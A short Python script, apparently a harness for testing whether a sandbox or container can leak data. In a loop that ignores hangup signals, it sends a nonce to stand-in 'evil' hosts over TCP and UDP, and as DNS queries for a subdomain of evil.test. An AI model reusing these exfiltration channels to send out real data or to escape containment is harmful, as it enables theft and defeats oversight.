"""Tries to get a nonce out again and again, and says after each round so, on standard output and in loop.txt.

usage: loop.py EVIL4 EVIL6 DNS4 NONCE
"""

import itertools
import os
import signal
import socket
import sys
import time

import wire

evil4, evil6, dns4, nonce = sys.argv[1:]
PAUSE = 0.02


def attempt(function):
    try:
        function()
    except OSError:
        pass


def tcp(host):
    with socket.create_connection((host, 443), 0.2) as connection:
        connection.sendall(nonce.encode())


def udp(family, host):
    with socket.socket(family, socket.SOCK_DGRAM) as sender:
        sender.sendto(nonce.encode(), (host, 443))


# The other end of the terminal or pipe may die; this goes on.
for ending in (signal.SIGPIPE, signal.SIGHUP):
    signal.signal(ending, signal.SIG_IGN)
print("ready", flush=True)
with open("loop.txt", "w", buffering=1, encoding="ascii") as log:
    for number in itertools.count():
        attempt(lambda: tcp(evil4))
        attempt(lambda: tcp(evil6))
        attempt(lambda: udp(socket.AF_INET, evil4))
        attempt(lambda: udp(socket.AF_INET6, evil6))
        attempt(lambda: wire.ask(dns4, 53, f"{nonce}.evil.test", "A", "udp", 0.2))
        attempt(lambda: wire.ask("127.0.0.11", 53, f"{nonce}.evil.test", "A", "udp", 0.2))
        line = f"round {number}\n"
        log.write(line)
        attempt(lambda: os.write(1, line.encode()))
        time.sleep(PAUSE)
